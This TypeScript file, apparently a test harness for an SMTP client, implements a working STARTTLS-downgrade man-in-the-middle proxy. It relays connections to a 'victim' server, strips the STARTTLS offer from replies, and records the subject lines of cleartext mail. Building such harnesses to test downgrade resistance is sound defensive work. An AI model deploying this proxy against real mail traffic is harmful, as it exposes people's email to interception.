/**
 * Mallory in between (RFC 3207 §6): whoever connects to her is led on to the victim, from the address that they came from, and hears all but the offer
 * of STARTTLS. What is said in clear, she reads.
 */
import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import type { Dialer } from '#clients/smtp/dial';

export interface Downgrade extends AsyncDisposable {
  /** Sessions that came through her. */
  readonly sessions: () => number;
  /** The subjects of letters that she read. */
  readonly subjects: () => readonly string[];
}

export interface DowngradeOptions {
  /** Where she listens. */
  readonly address: string;
  readonly port: number;
  /** To whom she leads on. */
  readonly victim: { readonly address: string; readonly port: number };
  readonly dialer: Dialer;
}

const CONNECT_MS = 5000;
/** Of one session. */
const MOST_READ = 64 * 1024;

export async function startDowngrade(options: DowngradeOptions): Promise<Downgrade> {
  const { address, port, victim, dialer } = options;
  const open = new Set<Socket>();
  const subjects: string[] = [];
  let sessions = 0;
  const lead = async (client: Socket): Promise<void> => {
    sessions++;
    client.on('error', () => {}).pause();
    const localAddress = client.remoteAddress!;
    const dialled = await dialer.dial({ ...victim, localAddress, timeoutMs: CONNECT_MS });
    if (dialled.kind !== 'connected') return void client.destroy();
    const behind = dialled.socket.on('error', () => {});
    let said = '';
    for (const socket of [client, behind]) {
      open.add(socket);
      socket.on('close', () => {
        open.delete(socket);
        client.destroy();
        behind.destroy();
      });
    }
    client.on('data', (octets) => {
      if (said.length < MOST_READ) said += octets.toString('latin1');
      behind.write(octets);
    });
    client.on('end', () => behind.end());
    client.on('close', () => {
      const subject = /^Subject: (.{1,200})\r$/m.exec(said)?.[1];
      if (subject !== undefined) subjects.push(subject);
    });
    let line = '';
    behind.on('data', (octets) => {
      line += octets.toString('latin1');
      const end = line.lastIndexOf('\n') + 1;
      client.write(Buffer.from(withoutStartTls(line.slice(0, end)), 'latin1'));
      line = line.slice(end);
    });
    behind.on('end', () => client.end());
    client.resume();
  };
  const server = createServer((client) => void lead(client));
  await once(server.listen(port, address), 'listening');
  return {
    sessions: () => sessions,
    subjects: () => subjects,
    async [Symbol.asyncDispose]() {
      const closed = once(server, 'close');
      server.close();
      for (const socket of open) socket.destroy();
      await closed;
    },
  };
}

/** Pure. The last line of a reply has to stay one. */
export function withoutStartTls(lines: string): string {
  return lines
    .replaceAll(/^250-STARTTLS\r?\n/gim, '')
    .replaceAll(/^250 STARTTLS\r?\n/gim, '250 NOOP\r\n');
}
